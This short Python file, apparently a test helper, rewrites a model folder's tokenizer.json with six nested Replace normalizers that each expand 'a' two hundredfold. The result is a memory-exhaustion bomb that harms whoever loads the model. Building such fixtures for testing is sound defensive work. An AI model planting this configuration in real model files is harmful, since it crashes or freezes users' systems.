"""Folders of models that harm whoever opens them: made of one that does not."""

import json
from pathlib import Path


def nest_replacements(folder: Path, levels: int = 6) -> Path:
    """Have the tokenizer write 200 letters for each "a", again and again: six times, 200^6 bytes of one letter."""
    longer = {"type": "Replace", "pattern": {"String": "a"}, "content": "a" * 200}
    return _rewrite(folder, normalizer={"type": "Sequence", "normalizers": [longer] * levels})


def _rewrite(folder: Path, **entries: object) -> Path:
    path = folder / "tokenizer.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | entries))
    return folder
